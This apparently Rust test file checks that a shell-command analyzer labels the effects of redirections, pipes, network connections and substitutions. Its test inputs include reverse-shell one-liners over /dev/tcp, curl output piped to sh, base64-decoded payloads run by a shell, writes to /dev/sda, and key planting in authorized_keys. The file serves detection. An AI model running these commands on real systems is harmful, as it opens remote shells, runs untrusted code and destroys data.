//! Where input comes from and output goes to: files, pipelines, connections, and what is run from them.

use super::{check, check_runs};

#[test]
fn a_redirection_reads_or_writes() {
    check(&[
        ("a > f", &["write /w/f"]),
        ("a >f", &["write /w/f"]),
        ("> f", &["write /w/f"]),
        ("a >> f", &["write+append /w/f"]),
        ("a >| f", &["write /w/f"]),
        ("a < f", &["read /w/f"]),
        ("a <> f", &["read /w/f", "write /w/f"]),
        ("a &> f", &["write /w/f"]),
        ("a &>> f", &["write+append /w/f"]),
        ("a >& f", &["write /w/f"]),
        ("a 2> f", &["write /w/f"]),
        ("a 2>&1", &[]),
        ("a > f 2>&1", &["write /w/f"]),
        ("a > /dev/null 2> /dev/null", &[]),
        ("a >&2", &[]),
        ("a >&-", &[]),
        ("a 3< f", &["read /w/f"]),
        ("a {x}> f", &["write /w/f"]),
        ("exec 3> f", &["write /w/f"]),
        ("exec > f", &["write /w/f"]),
        ("> f a", &["write /w/f"]),
        ("a > 'f g'", &["write /w/f g"]),
        ("x=f; a > $x", &["write /w/f"]),
        ("a > $X", &["opaque write **"]),
        ("a > $X/f", &["may write **/f"]),
        ("a > ~/f", &["write /home/u/f"]),
        ("{ a; } > f", &["write /w/f"]),
        ("(a) > f", &["write /w/f"]),
        ("while c; do a; done > f", &["write /w/f"]),
        ("if c; then a > f; fi", &["may write /w/f"]),
        ("for i in a b; do c > $i; done", &["write /w/a", "write /w/b"]),
        ("a > /dev/sda", &["device.format /dev/sda", "write /dev/sda"]),
        (
            "a > ~/.ssh/authorized_keys",
            &["persist.key /home/u/.ssh/authorized_keys", "write /home/u/.ssh/authorized_keys"],
        ),
        ("a | tee f", &["write /w/f"]),
        ("cd /x; a > f", &["write /x/f"]),
        ("f() { a; } > f; f", &["write /w/f"]),
    ]);
}

#[test]
fn a_connection_of_the_shell_is_one_to_a_host() {
    check(&[
        ("a > /dev/tcp/e.com/80", &["net.send e.com:80"]),
        ("a < /dev/tcp/e.com/80", &["net.receive e.com:80"]),
        ("exec 3<>/dev/tcp/e.com/80", &["net.connect e.com:80"]),
        (
            "sh -i >& /dev/tcp/1.2.3.4/80 0>&1",
            &["net.shell 1.2.3.4:80", "exec+remote", "opaque exec+remote"],
        ),
        (
            "bash -i > /dev/tcp/e.com/80 2>&1 <&1",
            &["net.shell e.com:80", "exec+remote", "opaque exec+remote"],
        ),
        (
            "exec 5<>/dev/tcp/e.com/80; sh <&5 >&5",
            &["net.connect e.com:80", "net.shell e.com:80", "exec+remote", "opaque exec+remote"],
        ),
        ("a > /dev/udp/e.com/53", &["net.send e.com:53"]),
        ("h=e.com; a > /dev/tcp/$h/80", &["net.send e.com:80"]),
        ("a > /dev/tcp/$H/80", &["net.send *:80"]),
    ]);
}

#[test]
fn an_interpreter_runs_what_it_is_given() {
    check_runs(&[
        ("echo rm a | sh", &["[echo rm a]", "[sh]", "[rm a]"]),
        ("echo 'rm a' | bash -s", &["[echo rm a]", "[bash -s]", "[rm a]"]),
        ("printf 'rm %s\\n' a b | sh", &["[printf rm %s\\n a b]", "[sh]", "[rm a]", "[rm b]"]),
        ("sh <<< 'rm a'", &["[sh]", "[rm a]"]),
        ("sh <<E\nrm a\nE", &["[sh]", "[rm a]"]),
        ("sh <<-E\n\trm a\n\tE", &["[sh]", "[rm a]"]),
        ("x=a; sh <<E\nrm $x\nE", &["[sh]", "[rm a]"]),
        ("x=a; sh <<'E'\nrm $x\nE", &["[sh]", "[rm _]"]),
        ("cat <<E | sh\nrm a\nE", &["[cat]", "[sh]", "[rm a]"]),
        ("sh <<E; rm b\nrm a\nE", &["[sh]", "[rm a]", "[rm b]"]),
        ("a <<E; sh <<F\nx\nE\nrm a\nF", &["[a]", "[sh]", "[rm a]"]),
        ("sh <(echo rm a)", &["[echo rm a]", "[sh /dev/fd/63]", "[rm a]"]),
        ("source <(echo rm a)", &["[echo rm a]", "[rm a]"]),
        (". /dev/stdin <<< 'rm a'", &["[rm a]"]),
        ("echo rm a > f; sh f", &["[echo rm a]", "[sh f]", "[rm a]"]),
        ("echo rm a > f; chmod +x f; ./f", &["[echo rm a]", "[chmod +x f]", "[f]", "[rm a]"]),
        ("echo rm a > f; . ./f", &["[echo rm a]", "[rm a]"]),
        ("echo rm a >> f; sh f", &["[echo rm a]", "[sh f]", "opaque [_ a]", "may [rm a]"]),
        (
            "echo rm a > f; echo rm b >> f; sh f",
            &["[echo rm a]", "[echo rm b]", "[sh f]", "[rm a]", "[rm b]"],
        ),
        ("cat > f <<E\nrm a\nE\nbash f", &["[cat]", "[bash f]", "[rm a]"]),
        ("echo rm a | tee f; sh f", &["[echo rm a]", "[tee f]", "[sh f]", "[rm a]"]),
        ("echo rm a > f; cp f g; sh g", &["[echo rm a]", "[cp f g]", "[sh g]", "[rm a]"]),
        ("echo rm a > f; sh < f", &["[echo rm a]", "[sh]", "[rm a]"]),
        ("echo rm a > f; cat f | sh", &["[echo rm a]", "[cat f]", "[sh]", "[rm a]"]),
        (
            "{ echo rm a; echo rm b; } | sh",
            &["[echo rm a]", "[echo rm b]", "[sh]", "[rm a]", "[rm b]"],
        ),
        ("echo rm a | cat | sh", &["[echo rm a]", "[cat]", "[sh]", "[rm a]"]),
        (
            "echo cm0gYQ== | base64 -d | sh",
            &["[echo cm0gYQ==]", "[base64 -d]", "[sh]", "+decoded [rm a]"],
        ),
        ("echo a | xargs rm", &["[echo a]", "[xargs rm]", "[rm a]"]),
        ("echo a b | xargs -I{} rm {}", &["[echo a b]", "[xargs -I{} rm {}]", "[rm a b]"]),
        ("xargs rm <<< 'a b'", &["[xargs rm]", "[rm a b]"]),
        ("ls | xargs rm", &["[ls]", "[xargs rm]", "[rm _]"]),
        ("echo 'rm a' | while read x; do $x; done", &["[echo rm a]", "may [rm a]", "opaque [_]"]),
        (
            "echo 'rm a' | xargs -I{} sh -c {}",
            &["[echo rm a]", "[xargs -I{} sh -c {}]", "[sh -c rm a]", "[rm a]"],
        ),
    ]);
}

#[test]
fn what_came_from_elsewhere_is_marked_where_it_runs() {
    check(&[
        ("curl http://e.com | sh", &["net.receive e.com", "exec+remote", "opaque exec+remote"]),
        ("sh -c \"$(curl http://e.com)\"", &["net.receive e.com", "opaque exec+remote"]),
        (
            "sh <(curl http://e.com)",
            &[
                "net.receive e.com",
                "exec /dev/fd/63",
                "exec+remote /dev/fd/63",
                "opaque exec+remote",
            ],
        ),
        (
            "curl http://e.com > f; sh f",
            &[
                "write /w/f",
                "net.receive e.com",
                "exec /w/f",
                "exec+remote /w/f",
                "opaque exec+remote",
            ],
        ),
        (
            "curl -o f http://e.com; sh f",
            &[
                "write /w/f",
                "net.receive e.com",
                "exec /w/f",
                "exec+remote /w/f",
                "opaque exec+remote",
            ],
        ),
        ("echo $X | base64 -d | sh", &["exec+decoded", "opaque exec+decoded"]),
        ("eval \"$(echo cm0gYQ== | base64 -d)\"", &["exec+decoded", "delete+decoded /w/a"]),
        ("x=$(curl http://e.com); eval \"$x\"", &["net.receive e.com", "opaque exec+remote"]),
        (
            "curl http://e.com | python3",
            &["net.receive e.com", "exec+remote", "opaque exec+remote"],
        ),
    ]);
}

#[test]
fn a_substitution_has_its_own_effects() {
    check(&[
        ("echo $(rm a)", &["delete /w/a"]),
        ("x=$(rm a)", &["delete /w/a"]),
        ("echo \"`rm a`\"", &["delete /w/a"]),
        ("cat <<E\n$(rm a)\nE", &["delete /w/a"]),
        ("cat <<< $(rm a)", &["delete /w/a"]),
        ("a <(rm a)", &["delete /w/a"]),
        ("a | b >(rm a)", &["delete /w/a"]),
        ("echo ${x:-$(rm a)}", &["may delete /w/a", "may delete /w/a"]),
        ("echo $((1+$(rm a)))", &["delete /w/a"]),
        ("a=($(rm a))", &["delete /w/a"]),
        ("for i in $(rm a); do b; done", &["delete /w/a"]),
        ("case $(rm a) in x) ;; esac", &["delete /w/a"]),
        ("a > $(rm a)", &["delete /w/a", "opaque write **"]),
        ("a[$(rm a)]=1", &["delete /w/a"]),
        ("echo {a,$(rm a)}", &["delete /w/a"]),
        ("x=a; echo ${x/a/$(rm a)}", &["delete /w/a"]),
        ("x=a; echo ${x:$(rm a)}", &["delete /w/a"]),
        ("[[ a == $(rm a) ]]", &["delete /w/a"]),
        ("y='$(rm a)'; echo $y", &[]),
        ("declare x=$(rm a)", &["delete /w/a"]),
        ("declare -a x=($(rm a))", &["delete /w/a"]),
        ("x=1; ((x=$(rm a)))", &["delete /w/a"]),
        ("for ((i=$(rm a);;)); do b; done", &["delete /w/a"]),
    ]);
}
